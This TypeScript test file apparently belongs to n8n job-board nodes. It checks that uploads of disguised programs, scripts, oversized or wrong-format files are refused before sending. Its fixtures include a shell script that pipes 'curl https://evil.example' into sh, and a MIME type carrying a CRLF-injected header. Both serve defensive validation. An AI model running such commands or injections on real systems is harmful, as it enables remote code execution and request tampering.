import type { INodeExecutionData } from 'n8n-workflow';

import { detectFileFormat } from '../../nodes/shared/binary';
import { startProvider, type Provider, type ProviderFixture } from './providers';

const pdf = Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(2_000, 0x20)]);
const docx = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(26), Buffer.from('[Content_Types].xml...word/document.xml'), Buffer.alloc(500)]);
const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(1_000, 1)]);
const jpeg = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(1_000, 2)]);
const text = Buffer.from('Ada Lovelace\nAnalyst, Analytical Engine\n');
const windowsProgram = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(2_000, 0x90)]);
const linuxProgram = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(2_000)]);
const script = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n');
const javaArchive = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(26), Buffer.from('META-INF/MANIFEST.MF'), Buffer.alloc(200)]);

interface BadFile {
	name: string;
	bytes: Buffer;
	fileName: string;
	mimeType: string;
	/** What the error must say about the file. */
	reason: RegExp;
}

const programs: BadFile[] = [
	{ name: 'a Windows program named cv.pdf', bytes: windowsProgram, fileName: 'cv.pdf', mimeType: 'application/pdf', reason: /is a program/ },
	{ name: 'a Linux program', bytes: linuxProgram, fileName: 'cv', mimeType: 'application/octet-stream', reason: /is a program/ },
	{ name: 'a shell script', bytes: script, fileName: 'cv.txt', mimeType: 'text/plain', reason: /is a script/ },
	{ name: 'a text file named .bat', bytes: Buffer.from('echo hello'), fileName: 'cv.bat', mimeType: 'text/plain', reason: /is a script/ },
	{ name: 'a Java archive', bytes: javaArchive, fileName: 'cv.docx', mimeType: 'application/zip', reason: /is a program/ },
	{ name: 'an image', bytes: png, fileName: 'cv.png', mimeType: 'image/png', reason: /is PNG/ },
];

interface FileField {
	provider: Provider;
	label: string;
	parameters: Record<string, unknown>;
	/** The binary property the operation reads. */
	property: string;
	bad: BadFile[];
	good: Array<{ bytes: Buffer; fileName: string; mimeType: string }>;
}

const FIELDS: FileField[] = [
	{
		provider: 'jobcase',
		label: 'Input Binary Field',
		parameters: { resource: 'company', operation: 'uploadLogo', companyId: 1, binaryPropertyName: 'data' },
		property: 'data',
		bad: [
			{ name: 'a text file', bytes: text, fileName: 'logo.png', mimeType: 'image/png', reason: /is plain text, but Jobcase takes a logo only as PNG, JPEG/ },
			{ name: 'a 40 MB logo', bytes: Buffer.concat([png, Buffer.alloc(40 * 1024 * 1024)]), fileName: 'logo.png', mimeType: 'image/png', reason: /40\.00 MB .*at most 5\.00 MB/ },
			{ name: 'a PDF', bytes: pdf, fileName: 'logo.pdf', mimeType: 'application/pdf', reason: /is PDF/ },
			{ name: 'a Windows program', bytes: windowsProgram, fileName: 'logo.png', mimeType: 'image/png', reason: /is a program/ },
		],
		good: [
			{ bytes: png, fileName: 'logo.png', mimeType: 'image/png' },
			{ bytes: jpeg, fileName: 'logo.jpg', mimeType: 'application/octet-stream' },
		],
	},
	{
		provider: 'jobcase',
		label: 'Resume Binary Field',
		parameters: {
			resource: 'applicationEvent',
			operation: 'send',
			jobSourceId: 'x3js81mdz1',
			firstName: 'Ada',
			lastName: 'Lovelace',
			email: 'ada@example.com',
			phoneNumber: '+1 555 0100',
			userIp: '203.0.113.7',
			attachResume: true,
			binaryPropertyName: 'data',
		},
		property: 'data',
		bad: programs,
		good: [
			{ bytes: pdf, fileName: 'ada.pdf', mimeType: 'application/pdf' },
			{ bytes: docx, fileName: 'ada.docx', mimeType: 'application/octet-stream' },
			{ bytes: text, fileName: 'ada.txt', mimeType: 'text/plain' },
		],
	},
	{
		provider: 'jobtrain',
		label: 'CV Binary Field',
		parameters: { resource: 'candidate', operation: 'createAndApply', jobId: '={{ $json.jobId }}', firstName: 'Ada', surname: '={{ $json.surname }}', email: '={{ $json.email }}', cvBinaryPropertyName: 'data' },
		property: 'data',
		bad: programs,
		good: [
			{ bytes: pdf, fileName: 'ada.pdf', mimeType: 'application/pdf' },
			{ bytes: docx, fileName: 'ada.docx', mimeType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document' },
		],
	},
	{
		provider: 'jobtrain',
		label: 'Cover Letter Binary Field',
		parameters: {
			resource: 'candidate',
			operation: 'createAndApply',
			jobId: '={{ $json.jobId }}',
			firstName: 'Ada',
			surname: '={{ $json.surname }}',
			email: '={{ $json.email }}',
			cvBinaryPropertyName: 'cv',
			additionalFields: { coverLetterBinaryPropertyName: 'data' },
		},
		property: 'data',
		bad: programs,
		good: [{ bytes: text, fileName: 'letter.txt', mimeType: 'text/plain' }],
	},
];

describe('file formats are read from the bytes', () => {
	it.each([
		['PDF', pdf, 'x', 'pdf'],
		['DOCX', docx, 'x', 'docx'],
		['PNG', png, 'x', 'png'],
		['JPEG', jpeg, 'x', 'jpeg'],
		['text', text, 'x', 'text'],
		['Windows program named cv.pdf', windowsProgram, 'cv.pdf', 'executable'],
		['ELF program', linuxProgram, 'x', 'executable'],
		['shell script', script, 'x', 'script'],
		['Java archive', javaArchive, 'x', 'executable'],
		['text named .ps1', Buffer.from('echo'), 'run.ps1', 'script'],
		['binary noise', Buffer.from([0, 1, 2, 3, 4, 250, 251]), 'x', 'unknown'],
	] as const)('%s', (_, bytes, fileName, format) => {
		expect(detectFileFormat(bytes, fileName)).toBe(format);
	});
});

const byProvider = (provider: Provider) => FIELDS.filter((field) => field.provider === provider);

describe.each(['jobcase', 'jobtrain'] as Provider[])('%s file fields', (provider) => {
	let fixture: ProviderFixture;
	let jobId: string;
	beforeAll(async () => {
		fixture = await startProvider(provider);
		if (provider === 'jobtrain') {
			const open = await fixture.run({ resource: 'job', operation: 'getAll', returnAll: true, filters: { status: 'Open' } }, { inputItems: [{ json: {} }] });
			jobId = String(open.items[0].json.jobId);
		}
	});
	afterAll(async () => await fixture.close());

	let serial = 0;
	const item = (file: { bytes: Buffer; fileName: string; mimeType: string }, field: FileField): INodeExecutionData => {
		serial++;
		const binary: INodeExecutionData['binary'] = { [field.property]: { data: file.bytes.toString('base64'), mimeType: file.mimeType, fileName: file.fileName } };
		if (field.property !== 'cv') binary.cv = { data: pdf.toString('base64'), mimeType: 'application/pdf', fileName: 'cv.pdf' };
		return { json: { jobId, surname: `Lovelace${serial}`, email: `ada${serial}.${provider}@example.com` }, binary };
	};

	it.each(byProvider(provider).flatMap((field) => field.bad.map((bad) => [`"${field.label}": ${bad.name}`, field, bad] as const)))(
		'refuses %s with the reason, naming the field and item; nothing is sent',
		async (_, field, bad) => {
			await fixture.control.clearRequests();
			const result = await fixture.run(field.parameters, { inputItems: [item(bad, field), item(bad, field)], continueOnFail: true });
			expect(result.error).toBeUndefined();
			expect(result.items).toHaveLength(2);
			result.items.forEach((output, index) => {
				expect(String(output.json.error)).toContain(`Invalid "${field.label}" in item ${index}`);
				expect(String(output.json.error)).toMatch(bad.reason);
			});
			expect(await fixture.control.requests()).toEqual([]);
		},
	);

	it.each(byProvider(provider).map((field) => [field.label, field] as const))('"%s" still sends files the provider takes', async (_, field) => {
		await fixture.control.clearRequests();
		const result = await fixture.run(field.parameters, { inputItems: field.good.map((good) => item(good, field)), continueOnFail: true });
		expect(result.error).toBeUndefined();
		expect(result.items.map((output) => output.json.error)).toEqual(field.good.map(() => undefined));
	});
});

describe('multipart part headers', () => {
	it('a declared MIME type cannot add headers to the part', async () => {
		const { encodeMultipart } = await import('../../nodes/shared/multipart');
		const { body } = encodeMultipart([{ name: 'cv', file: { bytes: pdf, fileName: 'cv.pdf', mimeType: 'application/pdf\r\nX-Injected: yes' } }]);
		const head = body.subarray(0, 300).toString('latin1');
		expect(head).not.toContain('X-Injected');
		expect(head).toContain('Content-Type: application/octet-stream\r\n');
		const kept = encodeMultipart([{ name: 'cv', file: { bytes: pdf, fileName: 'cv.pdf', mimeType: 'application/pdf; charset=binary' } }]);
		expect(kept.body.subarray(0, 300).toString('latin1')).toContain('Content-Type: application/pdf; charset=binary\r\n');
	});
});
